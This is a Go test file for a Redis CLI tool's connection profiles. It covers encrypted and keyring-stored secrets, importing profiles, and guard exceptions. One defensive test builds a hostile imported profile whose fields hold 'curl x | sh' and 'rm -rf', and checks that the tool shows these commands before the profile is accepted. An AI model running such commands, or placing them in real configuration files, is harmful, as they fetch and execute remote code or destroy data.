package cli

import (
	"errors"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"redan/conn/conntest"
	"redan/profiles"
	"redan/profiles/secret"
)

// age returns the encrypted files of a bench by their name.
func (b *bench) age() map[string]string {
	b.t.Helper()
	paths, err := filepath.Glob(filepath.Join(b.dir, "profiles", "*.age"))
	if err != nil {
		b.t.Fatal(err)
	}
	files := map[string]string{}
	for _, path := range paths {
		text, err := os.ReadFile(path)
		if err != nil {
			b.t.Fatal(err)
		}
		files[filepath.Base(path)] = string(text)
	}
	return files
}

// TestEncryptedFileConnects: what --secret age makes opens a connection, and so does what --set-password puts in its place.
func TestEncryptedFileConnects(t *testing.T) {
	server := conntest.Start(t, conntest.Password("hunter1"))
	b := newBench(t)
	b.passwords = []string{"hunter1", "s3cret phrase", "s3cret phrase"}
	b.ok(append(at(server.Addr()), "profile", "add", "one", "--secret", "age")...)
	b.passwords = []string{"s3cret phrase"}
	if out := b.ok("@one", "PING"); out != "PONG\n" {
		t.Errorf("%q", out)
	}
	b.passwords = []string{"shut s3cret"}
	b.fails(1, "passphrase is wrong", "@one", "PING")

	server.Do("CONFIG", "SET", "requirepass", "hunter2")
	b.passwords = []string{"hunter2", "s3cret too", "s3cret too"}
	b.ok("profile", "edit", "one", "--set-password")
	b.passwords = []string{"s3cret too"}
	if out := b.ok("@one", "PING"); out != "PONG\n" {
		t.Errorf("%q", out)
	}
	if files := b.age(); len(files) != 1 {
		t.Errorf("%d encrypted files", len(files))
	}
}

// TestSetPasswordFails: whatever goes wrong, the password that was stored is there still.
func TestSetPasswordFails(t *testing.T) {
	b := newBench(t)
	b.passwords = []string{"s3cret", "s3cret"}
	b.ok("-a", "hunter", "--no-auth-warning", "profile", "add", "one", "--secret", "age")
	profile, before := b.file("one"), b.age()["one.age"]
	whole := func() {
		t.Helper()
		if b.file("one") != profile || b.age()["one.age"] != before || before == "" || len(b.age()) != 1 {
			t.Errorf("%s\n%q", b.file("one"), b.age())
		}
	}
	b.passwords = []string{"hunter2", "s3cret", "another s3cret"}
	b.fails(1, "differ", "profile", "edit", "one", "--set-password")
	whole()
	b.passwords = []string{"hunter2", "s3cret", "s3cret"}
	b.fails(1, "newer", "profile", "edit", "one", "--set-password", "--tls-min", "1.3", "--tls-max", "1.2")
	whole()
	// The passphrase of the key is to go to the keyring, which takes nothing.
	b.keyring.full = errors.New("no bus")
	b.passwords = []string{"hunter2", "s3cret", "s3cret", "s3cret of the key"}
	b.fails(1, "no bus", "profile", "edit", "one", "--set-password", "--key", "/k", "--key-secret", "keyring")
	whole()
	b.fails(1, "no bus", "-a", "hunter", "--no-auth-warning", "profile", "edit", "one", "--secret", "keyring")
	whole()
	b.keyring.full = nil
	b.ok("-a", "hunter", "--no-auth-warning", "profile", "edit", "one", "--secret", "keyring")
	if len(b.age()) != 0 || b.keyring.entries["one"] != "hunter" {
		t.Errorf("%q", b.age())
	}
	// A file that was made for nothing is taken back.
	b.passwords = []string{"s3cret", "s3cret"}
	b.fails(1, "newer", "-a", "hunter", "--no-auth-warning", "profile", "edit", "one", "--secret", "age", "--tls-min", "1.3", "--tls-max", "1.2")
	if len(b.age()) != 0 || b.keyring.entries["one"] != "hunter" {
		t.Errorf("%q", b.age())
	}
	b.passwords = []string{"s3cret", "s3cret"}
	b.ok("-a", "hunter", "--no-auth-warning", "profile", "edit", "one", "--secret", "age")
	if len(b.age()) != 1 || len(b.keyring.entries) != 0 {
		t.Errorf("%q, %d entries", b.age(), len(b.keyring.entries))
	}
}

// TestImportReplaces: what cannot be stored leaves the old profile and its secret, and what can takes their place.
func TestImportReplaces(t *testing.T) {
	b := newBench(t)
	source := b.source("servers.env", "CACHE_URL=redis://:hunter2@h:1\n")
	b.ok("-a", "hunter1", "--no-auth-warning", "-h", "old", "profile", "add", "cache", "--read-only")
	before := b.file("cache")
	b.keyring.full = errors.New("no bus")
	b.fails(1, "failed cache", "profile", "import", source, "--on-conflict", "replace")
	if b.file("cache") != before || b.keyring.entries["cache"] != "hunter1" {
		t.Errorf("%s", b.file("cache"))
	}
	b.keyring.full = nil
	b.ok("profile", "import", source, "--on-conflict", "replace")
	b.is("cache", "host = \"h\"\nport = 1\npassword = \"keyring:cache.2\"")
	if len(b.keyring.entries) != 1 || b.keyring.entries["cache.2"] != "hunter2" {
		t.Errorf("%d entries", len(b.keyring.entries))
	}
	b.passwords = []string{"s3cret", "s3cret"}
	b.ok("profile", "import", source, "--on-conflict", "replace", "--secrets", "age")
	first := b.age()["cache.age"]
	b.passwords = []string{"s3cret", "s3cret"}
	b.ok("profile", "import", source, "--on-conflict", "replace", "--secrets", "age")
	if second := b.age()["cache.age"]; first == "" || second == "" || first == second || len(b.age()) != 1 || len(b.keyring.entries) != 0 {
		t.Errorf("%q, %d entries", b.age(), len(b.keyring.entries))
	}
}

func (b *bench) source(name, text string) string {
	b.t.Helper()
	path := filepath.Join(b.t.TempDir(), name)
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		b.t.Fatal(err)
	}
	return path
}

// TestImportTellsPrograms: everything that a profile of somebody else's would run is shown before it is agreed to.
func TestImportTellsPrograms(t *testing.T) {
	b := newBench(t)
	source := b.source("p.toml", `version = 1
[profiles.evil]
host = "h"
password = "command:vault read 'a b'"
[profiles.evil.tls]
key_data = "shell:curl x | sh"
key_passphrase = "command:pass show k"
[profiles.evil.before]
command = ["rm", "-rf", "/a b"]
`)
	shown := []string{
		"password runs: vault read 'a b'\n", "tls.key_data runs: sh -c 'curl x | sh'\n", "tls.key_passphrase runs: pass show k\n",
		"before.command runs: rm -rf '/a b'\n",
	}
	tells := func(text string) {
		t.Helper()
		for _, want := range shown {
			if !strings.Contains(text, want) {
				t.Errorf("%s\nlacks %q", text, want)
			}
		}
	}
	tells(b.ok("profile", "import", source, "--dry-run"))
	refused := b.ok("profile", "import", source)
	tells(refused)
	if !strings.Contains(refused, "skipped evil") || !strings.Contains(refused, "--yes") {
		t.Errorf("%s", refused)
	}
	b.answers = "n\n"
	got := b.run("profile", "import", source)
	if before, _, asked := strings.Cut(got.stderr, "Take it over"); asked {
		tells(before)
	} else {
		t.Errorf("not asked: %+v", got)
	}
	if _, err := os.Stat(b.path("evil")); err == nil {
		t.Error("it is taken over unasked")
	}
	b.answers = "y\n"
	b.ok("profile", "import", source)
	b.file("evil")
	b.ok("profile", "remove", "--yes", "evil")
	tells(b.ok("profile", "import", source, "--yes"))
}

// TestNoPassword: --secret none makes a profile without one, whatever the environment has.
func TestNoPassword(t *testing.T) {
	b := newBench(t)
	b.env["REDISCLI_AUTH"] = "hunter"
	b.ok("-h", "h", "profile", "add", "one", "--secret", "none")
	b.is("one", "host = \"h\"\nport = 6379")
	if out := b.ok("-h", "h", "profile", "add", "two"); !strings.Contains(out, "--secret none leaves it out") {
		t.Errorf("%s", out)
	}
	b.ok("profile", "edit", "two", "--secret", "none")
	b.is("two", "host = \"h\"\nport = 6379")
	b.fails(2, "Leave one of them out", "-a", "hunter", "--no-auth-warning", "profile", "add", "x", "--secret", "none")
	b.fails(2, "Leave one of them out", "profile", "edit", "one", "--secret", "none", "--set-password")
}

// TestKeyTooLarge: some systems' keyrings take passwords and no private keys. The way out is said, and works.
func TestKeyTooLarge(t *testing.T) {
	b := newBench(t)
	b.keyring.full = secret.ErrTooBig
	const key = "-----BEGIN PRIVATE KEY-----\ns3cret\n-----END PRIVATE KEY-----\n"
	text := "version = 1\n[profiles.one]\nhost = \"h\"\npassword = \"hunter\"\n[profiles.one.tls]\nkey_data = '''\n" + key + "'''\n"
	source := b.source("p.toml", text)
	b.fails(1, "--secrets age", "profile", "import", source)
	if _, err := os.Stat(b.path("one")); err == nil {
		t.Error("there is a profile without its key")
	}
	b.passwords = []string{"s3cret a", "s3cret a", "s3cret b", "s3cret b"}
	b.ok("profile", "import", source, "--secrets", "age")
	if files := b.age(); files["one.age"] == "" || files["one~key_data.age"] == "" {
		t.Errorf("%q", files)
	}
	b.ok("profile", "rename", "one", "two")
	if files := b.age(); len(files) != 2 || files["two.age"] == "" || files["two~key_data.age"] == "" {
		t.Errorf("%q", files)
	}
	b.write("clear", "[tls]\nkey_data = '''\n"+key+"'''\n")
	b.fails(1, "too large for the keyring of this system (tls.key_data)", "profile", "secure", "clear")
	b.fails(1, "--to age", "profile", "secure", "clear")
	b.passwords = []string{"s3cret", "s3cret"}
	b.ok("profile", "secure", "clear", "--to", "age")
	b.file("clear")
}

// TestExceptions: an exception of the guard that names nothing is told wherever the profile is looked at or used.
func TestExceptions(t *testing.T) {
	server := conntest.Start(t)
	b := newBench(t)
	const wrong = `"CONFIG GOT" is no command`
	b.ok(append(at(server.Addr()), "profile", "add", "good", "--environment", "production", "--set", "guard.exceptions=FLUSHALL")...)
	if out := b.ok("@good", "FLUSHALL"); out != "OK\n" {
		t.Errorf("%q", out)
	}
	b.fails(1, wrong, "profile", "add", "x", "--set", "guard.exceptions=CONFIG GOT")
	b.fails(1, wrong, "profile", "edit", "good", "--set", "guard.exceptions=DEL", "--set", "guard.exceptions=CONFIG GOT")
	b.write("bad", b.file("good")+"# by hand\n")
	b.write("bad", strings.Replace(b.file("bad"), "FLUSHALL", `DEL", "@wrote", "CONFIG GOT`, 1))
	at := "bad.toml:" // and the line of the key
	for n, line := range strings.Split(b.file("bad"), "\n") {
		if strings.HasPrefix(line, "exceptions") {
			at += strconv.Itoa(n + 1)
		}
	}
	for _, args := range []string{"profile show bad", "profile list", "profile test bad", "@bad PING", "--profile bad PING"} {
		b.fails(1, at, strings.Fields(args)...)
		b.fails(1, `"@wrote" is no ACL category`, strings.Fields(args)...)
	}
	b.fails(1, wrong, "@bad", "PING")
	b.fails(1, wrong, "profile", "show", "bad")
	if names, err := profiles.NewStore(b.dir, "").Names(); err != nil || len(names) != 2 {
		t.Errorf("%v, %v", names, err)
	}
}
